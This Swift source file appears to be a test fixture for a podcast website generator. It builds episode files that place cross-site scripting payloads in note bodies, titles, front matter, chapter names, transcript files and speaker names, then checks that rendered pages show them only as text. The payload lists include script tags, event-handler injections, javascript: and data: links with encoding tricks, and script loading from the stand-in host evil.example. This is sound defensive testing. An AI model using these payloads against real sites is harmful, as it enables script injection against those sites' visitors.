// What somebody could write who wants their markup on the site's pages: each in the place where it would be written.

import Importer
import Podcast

@testable import Site

/// One attempt. `MARK` in its text becomes the case's own word, which must be seen on a page as text, and nowhere else.
struct HostileCase: Sendable {
    enum Place: Sendable {
        /// A paragraph or list of a topic's notes.
        case body
        case topicTitle, topicAddress, host, extra, joke, sponsor, heading
        /// A value of front matter, by key; the text is YAML's in single quotation marks.
        case front(String)
        case chapter
        /// The name of the transcript's file.
        case fileName
        /// What is said in a transcript of a format.
        case said(String)
        /// Who says it.
        case speaker(String)
    }

    let place: Place
    let text: String
    /// Whether the word is to be seen: not where the whole value is refused.
    var isSeen = true

    /// Attempts at an element, in text of any kind.
    private static let elements: [String] = [
        "<script>MARK</script>", "<script src=//evil.example/MARK></script>", "<img src=x onerror=MARK()>",
        "<svg onload=MARK()><x9/></svg>", "\"><x9 MARK>", "'><x9 MARK='", "</title><x9>MARK", "</textarea><x9>MARK",
        "<iframe srcdoc='<x9>MARK'></iframe>", "<style>@import '//evil.example/MARK'</style>",
        "<base href=//evil.example/>MARK", "<meta http-equiv=refresh content=0;url=//evil.example/MARK>",
        "<details open ontoggle=MARK()>", "<a href=javascript:MARK()>x</a>", "<math><x9>MARK</x9></math>",
        "<!--><x9>MARK-->", "<![CDATA[<x9>MARK]]>", "<?x9 MARK?>", "{{{MARK}}} {{> layout}}", "&lt;x9&gt;MARK",
        "&#60;x9&#62;MARK", "\u{FF1C}x9\u{FF1E}MARK", "<\u{301}x9>MARK", "\"\u{301} onload=MARK() x=\"",
        "</template><x9>MARK", "</script><x9>MARK",
    ]

    /// Markdown that leads to what may not be led to, or hides markup.
    private static let bodies: [String] = [
        "[MARK](javascript:alert(1))", "[MARK](JaVaScRiPt:alert(1))", "[MARK](java&#10;script:alert(1))",
        "[MARK](&#106;avascript:alert(1))", "[MARK](data:text/html,<x9>)", "[MARK](vbscript:x)",
        "[MARK](<javascript:alert(1)>)", "[MARK](\u{1}javascript:alert(1))", "[MARK](https://e.example/\"onload=x)",
        "[MARK](https://e.example/ \"t\\\" onload=x\")", "![MARK](javascript:alert(1))",
        "![MARK\"onerror=x](https://e.example/a.png) MARK", "![MARK](data:image/svg+xml,<svg onload=x>)",
        "<javascript:alert(1)> MARK", "[MARK][1]\n\n[1]: javascript:alert(1)",
        "[MARK][1]\n\n[1]: https://e.example '\"onload=x'", "```\"><x9>\n<x9>MARK\n```", "`<x9>MARK`",
        "| a | b |\n|---|---|\n| <x9>MARK | \" onload=x |", "> <x9>MARK", "    <x9>MARK", "~~<x9>MARK~~",
        "**<x9>MARK**", "[<x9>MARK](https://e.example)", "https://e.example/<x9>MARK",
        "[MARK](https://e.example/#\"><x9>)", "\\<x9>MARK", "<x9\n>MARK", "<x9 MARK", "*\"onload=x* MARK",
        "<https://e.example/MARK\"onload=x>", "# <x9>MARK",
    ]

    /// Attempts in every other place.
    private static let elsewhere: [(Place, String)] = [
        (.topicTitle, "<x9 onload=x>MARK"), (.topicTitle, "MARK\"><x9>"), (.topicTitle, "<script>MARK</script>"),
        (.host, "<x9>MARK"), (.host, "MARK' onload=x"), (.extra, "<x9>MARK</x9>"), (.extra, "MARK\" onload=x"),
        (.joke, "<x9>MARK"), (.joke, "<script>MARK</script>"), (.heading, "<x9>MARK"), (.heading, "MARK\"><x9>"),
        (.sponsor, "<x9>MARK"), (.sponsor, "MARK\" onload=x"),
        (.front("title"), "<x9>MARK"), (.front("title"), "MARK</title><script>x</script>"),
        (.front("title"), "MARK\" onload=\"x"), (.front("title"), "MARK</script><x9>"),
        (.front("summary"), "<x9>MARK\" onload=\"x"), (.front("guests"), "<x9>MARK"),
        (.front("hosts"), "<x9>MARK\" onload=x"), (.front("hosts"), "MARK' onload=x"), (.front("tags"), "<x9>MARK"),
        (.front("tags"), "MARK\"><x9>"),
        (.fileName, "<x9>MARK"), (.fileName, "MARK\" onload=x"), (.fileName, "MARK' <script>"),
        (.chapter, "<x9>MARK"), (.chapter, "MARK\"><x9 onload=x>"),
    ]

    private static let spoken: [(Place, String)] = [
        (.said("vtt"), "<x9>MARK</x9>"), (.said("vtt"), "&lt;x9&gt;MARK"), (.said("vtt"), "MARK\" onload=\"x"),
        (.said("srt"), "<x9>MARK</x9>"), (.said("srt"), "MARK<script>x</script>"),
        (.said("json"), "<x9>MARK"), (.said("json"), "MARK</script><x9>"), (.said("txt"), "<x9>MARK"),
        (.said("html"), "&lt;x9&gt;MARK"), (.said("html"), "&#60;script&#62;MARK"),
        (.speaker("vtt"), "MARK\" onload=x"), (.speaker("json"), "<x9>MARK"), (.speaker("srt"), "MARK<x9>"),
    ]

    /// What is refused whole, or shown nowhere.
    private static let refused: [(Place, String)] = [
        (.topicAddress, "javascript:MARK()"), (.topicAddress, "data:text/html,MARK"),
        (.topicAddress, "https://e.example/\"onload=MARK"), (.front("image"), "javascript:MARK"),
    ]

    static let all: [HostileCase] = {
        var cases = (elements + bodies).map { HostileCase(place: .body, text: $0) }
        cases += (elsewhere + spoken).map { HostileCase(place: $0.0, text: $0.1) }
        cases += refused.map { HostileCase(place: $0.0, text: $0.1, isSeen: false) }
        return cases
    }()

    /// The word of a case: no other text has it.
    static func word(_ index: Int) -> String { "wx\(index)xw" }

    /// Where an episode with this in it is shown, below the episode's own path: everything but what all cases share.
    var pages: [String] {
        switch place {
        case .said, .speaker: ["", "/transcript", "/topics/1"]
        case .host: [""]  // What is no name begins no topic.
        case .front("hosts"): ["", "/embed"]
        case .topicTitle, .topicAddress, .front: ["", "/topics/1", "/embed", "/topics/1/embed"]
        case .body, .extra, .joke, .sponsor, .heading, .chapter, .fileName: ["", "/topics/1"]
        }
    }

    /// The files of an episode that has this in it.
    func files(number: Int, word: String) -> [ImportFile] {
        let text = text.replacing("MARK", with: word)
        var front = "title: Case \(number)\nnumber: \(number)\n"
        var (title, address, host, more) = ("Engines", "https://engine.example/\(number)", "Ada", "")
        let name = "\(number)"
        var files: [ImportFile] = []
        switch place {
        case .body: more = text + "\n\n"
        case .topicTitle: title = text
        case .topicAddress: address = text
        case .host: host = text
        case .extra: more = "**Extras**\n\nAda:\n\n- \(text)\n\n"
        case .joke: more = "**Joke:** \(text)\n\n- \(text)\n\n"
        case .heading: more = "## \(text)\n\nWords.\n\n"
        case .sponsor: more = "Sponsored by \(text): [thing](https://thing.example)\n\n"
        case .front(let key):
            let value = "'" + text.replacing("'", with: "''") + "'"
            let isList = ["guests", "hosts", "tags"].contains(key)
            if key == "title" { front = "number: \(number)\n" }
            front += "\(key): \(isList ? "[\(value)]" : value)\n"
        case .chapter: front += "chapters:\n  - {start: 0, title: '\(text.replacing("'", with: "''"))'}\n"
        case .fileName:
            // Notes that give no title have that of their transcript's file.
            front = "number: \(number)\n"
            files.append(Self.transcript(number, "vtt", speaker: "Ada", words: "Words", name: "\(number) - \(text)"))
        case .said(let format): files.append(Self.transcript(number, format, speaker: "Ada", words: text))
        case .speaker(let format): files.append(Self.transcript(number, format, speaker: text, words: "Words"))
        }
        // Where topics name their hosts, those are the episode's, and what front matter says of it is not.
        let isUntold = if case .front("hosts") = place { true } else { false }
        let topic = isUntold ? "Words." : "**\(host) #1:** [**\(title)**](\(address))\n\n- Gears"
        let notes = """
            ---
            \(front)published: 2026-01-01T08:00:00Z
            ---

            \(topic)

            \(more)
            """
        return files + [SiteFixture.notes(name + ".md", notes)]
    }

    private static func transcript(_ number: Int, _ format: String, speaker: String, words: String, name: String? = nil)
        -> ImportFile
    {
        func quoted(_ text: String) -> String { text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"") }
        let text =
            switch format {
            case "vtt": "WEBVTT\n\n00:01.000 --> 00:04.000\n<v \(speaker)>\(words)\n"
            case "srt": "1\n00:00:01,000 --> 00:00:04,000\n\(speaker): \(words)\n"
            case "json":
                """
                {"version": "1.0.0", "segments": [{"speaker": "\(quoted(speaker))", "startTime": 1, "endTime": 4, \
                "body": "\(quoted(words))"}]}
                """
            case "html": "<cite>\(speaker):</cite><time>0:01</time><p>\(words)</p>"
            default: "00:00:01 \(speaker): \(words)\n"
            }
        return SiteFixture.notes("\(name ?? String(number)).\(format)", text)
    }
}
